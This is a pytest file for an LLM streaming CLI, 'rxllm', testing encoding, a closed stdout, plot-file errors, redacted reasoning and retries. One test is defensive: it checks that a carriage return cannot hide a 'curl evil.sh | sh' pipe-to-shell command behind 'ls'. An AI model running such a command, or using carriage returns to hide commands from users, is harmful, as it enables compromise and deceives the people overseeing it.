"""The command line as a new user meets it: a terminal that is not UTF-8, a closed
stdout, a model that writes carriage returns, Ctrl-C under `--json`, a plot file
matplotlib cannot write, redacted reasoning, a retry's delay."""

from __future__ import annotations

import io
import json
import os
import re
import socket
import subprocess
import sys
from pathlib import Path

from rxllm.cli import Printer
from rxllm.events import Done, TextDelta
from tests.test_cli import RXLLM, run


def chat_chunk(delta: dict[str, object], finish: str | None = None) -> bytes:
    """One OpenAI chat completions chunk, as the API streams it."""
    choice = {"index": 0, "delta": delta, "finish_reason": finish}
    body = {"id": "c", "object": "chat.completion.chunk", "model": "m", "choices": [choice]}
    return b"data: " + json.dumps(body).encode() + b"\n\n"


def chat_turn(text: str) -> bytes:
    return (
        chat_chunk({"role": "assistant", "content": text})
        + chat_chunk({}, "stop")
        + b"data: [DONE]\n\n"
    )


def capture(tmp_path: Path, data: bytes, name: str = "turn.sse") -> str:
    path = tmp_path / name
    path.write_bytes(data)
    return str(path)


def test_a_terminal_that_is_not_utf8_gets_escapes_not_a_traceback(tmp_path: Path) -> None:
    path = capture(tmp_path, chat_turn("h\u00e9llo \U0001f44b"))
    env = {**os.environ, "PYTHONIOENCODING": "ascii"}
    shown = run("replay", path, env=env)
    assert shown.returncode == 0 and "Traceback" not in shown.stderr, shown.stderr
    assert shown.stdout.splitlines()[0] == "h\\xe9llo \\U0001f44b"
    # JSON lines are UTF-8 whatever the locale (RFC 8259 section 8.1), so jq reads them
    lines = subprocess.run(
        [*RXLLM, "replay", path, "--json"], capture_output=True, env=env, timeout=120
    )
    assert lines.returncode == 0 and b"Traceback" not in lines.stderr, lines.stderr
    first = json.loads(lines.stdout.decode("utf-8").splitlines()[0])
    assert first["type"] == "text" and first["text"] == "h\u00e9llo \U0001f44b"


def test_a_closed_stdout_is_said_before_the_turn(tmp_path: Path) -> None:
    path = capture(tmp_path, chat_turn("hi"))
    for args in (("stream", "hi", "--no-tools"), ("replay", path, "--json")):
        result = subprocess.run(
            [*RXLLM, *args],
            stderr=subprocess.PIPE,
            text=True,
            timeout=120,
            preexec_fn=lambda: os.close(1),  # `rxllm ... >&-`
        )
        assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
        assert result.stderr.strip().splitlines()[-1].startswith("rxllm: stdout is closed")


def test_a_carriage_return_from_the_model_cannot_print_over_the_line(tmp_path: Path) -> None:
    """`\\r` alone sends the cursor back to the line's start: `curl evil | sh\\rls  `
    would show as `ls`. A line end (`\\r\\n`) stays one."""
    hidden = "run: curl evil.sh | sh\rrun: ls             "
    call = {"index": 0, "id": "c1", "type": "function"}
    data = (
        chat_chunk({"role": "assistant", "content": hidden + "\r\nnext line"})
        + chat_chunk({"tool_calls": [{**call, "function": {"name": "rm\rls", "arguments": "{}"}}]})
        + chat_chunk({}, "tool_calls")
        + b"data: [DONE]\n\n"
    )
    result = subprocess.run(  # bytes: text mode would read each \r as a line end
        [*RXLLM, "replay", capture(tmp_path, data)], capture_output=True, timeout=120
    )
    assert result.returncode == 0, result.stderr
    out = result.stdout.decode()
    assert re.search(r"\r(?!\n)", out) is None, out
    assert "curl evil.sh | sh\\rrun: ls" in out and "\r\nnext line" in out
    assert "[tool_start] rm\\rls (call c1)" in out
    # a line end split across two deltas is still a line end
    printed = io.StringIO()
    printer = Printer(printed, as_json=False)
    for text in ("a\r", "\nb\r", "c\r"):
        printer(TextDelta(provider="p", text=text))
    printer(Done(provider="p", stop_reason="stop"))
    assert printed.getvalue() == "a\r\nb\\rc\\r\n[done] stop (raw None)\n"


def test_a_plot_file_matplotlib_cannot_write_is_refused_before_the_turn(tmp_path: Path) -> None:
    result = run("stream", "hi", "--no-tools", "--plot", str(tmp_path / "turn.txt"))
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    assert result.stdout == ""  # the turn never ran
    assert result.stderr.strip().splitlines() == [
        f"rxllm: --plot {tmp_path / 'turn.txt'}: matplotlib cannot write .txt files "
        "(avif, eps, gif, jpeg, jpg, pdf, pgf, png, ps, raw, rgba, svg, svgz, tif, tiff, webp)"
    ]
    # no suffix: a PNG, saved where the message says
    path = capture(tmp_path, chat_turn("hi"))
    result = run("replay", path, "--plot", str(tmp_path / "timeline"))
    assert result.returncode == 0, result.stderr
    assert f"timeline saved to {tmp_path / 'timeline'}" in result.stderr
    assert (tmp_path / "timeline").read_bytes().startswith(b"\x89PNG")


def without(module: str, *args: str) -> subprocess.CompletedProcess[str]:
    """The command run with `module` unimportable, as if not installed."""
    code = (
        f"import sys; sys.modules[{module!r}] = None; from rxllm.cli import main; "
        f"sys.exit(main({list(args)!r}))"
    )
    return subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)


def test_plot_without_matplotlib_is_one_line_naming_the_extra(tmp_path: Path) -> None:
    png = str(tmp_path / "t.png")
    missing = without("matplotlib", "stream", "hi", "--plot", png)
    assert missing.returncode == 2 and missing.stdout == ""
    # said at once, before the turn (and before saying where it would stream from)
    [line] = missing.stderr.strip().splitlines()
    assert line.startswith("rxllm: --plot: ") and "pip install 'rxllm[viz]'" in line
    # matplotlib there, one of its own dependencies not: installing the extra would not help
    broken = without("kiwisolver", "replay", capture(tmp_path, chat_turn("hi")), "--plot", png)
    assert broken.returncode == 2 and "Traceback" not in broken.stderr, broken.stderr
    [line] = broken.stderr.strip().splitlines()
    assert "kiwisolver" in line and "rxllm[viz]" not in line


def anthropic_event(kind: str, body: dict[str, object]) -> bytes:
    return f"event: {kind}\ndata: {json.dumps({'type': kind, **body})}\n\n".encode()


def test_redacted_reasoning_says_it_was_redacted(tmp_path: Path) -> None:
    """Anthropic's `redacted_thinking` block holds encrypted `data` and no text
    (https://docs.anthropic.com/en/docs/build-with-claude/extended-thinking)."""
    message = {"id": "msg_1", "type": "message", "role": "assistant", "model": "claude"}
    message |= {"content": [], "stop_reason": None, "usage": {"input_tokens": 5}}
    data = (
        anthropic_event("message_start", {"message": message})
        + anthropic_event(
            "content_block_start",
            {"index": 0, "content_block": {"type": "redacted_thinking", "data": "EmwKAhgB"}},
        )
        + anthropic_event("content_block_stop", {"index": 0})
        + anthropic_event(
            "content_block_start", {"index": 1, "content_block": {"type": "text", "text": ""}}
        )
        + anthropic_event(
            "content_block_delta", {"index": 1, "delta": {"type": "text_delta", "text": "Hi."}}
        )
        + anthropic_event("content_block_stop", {"index": 1})
        + anthropic_event(
            "message_delta", {"delta": {"stop_reason": "end_turn"}, "usage": {"output_tokens": 9}}
        )
        + anthropic_event("message_stop", {})
    )
    result = run("replay", capture(tmp_path, data), "--provider", "anthropic")
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines()[:2] == ["[reasoning] (redacted)", "Hi."]


def test_an_unreachable_host_retries_then_errors_with_delays_in_hundredths() -> None:
    with socket.socket() as probe:  # a port nothing listens on
        probe.bind(("127.0.0.1", 0))
        url = f"http://127.0.0.1:{probe.getsockname()[1]}/v1"
    result = run("stream", "hi", "--provider", "openai", "--api-key", "k", "--base-url", url)
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    lines = result.stdout.splitlines()
    retries = [line for line in lines if line.startswith("[retry]")]
    assert retries and all(re.search(r": after \d+(\.\d{1,2})? s$", r) for r in retries), retries
    assert lines[-2].startswith("[error] transport: ") and "error transport" in lines[-1]
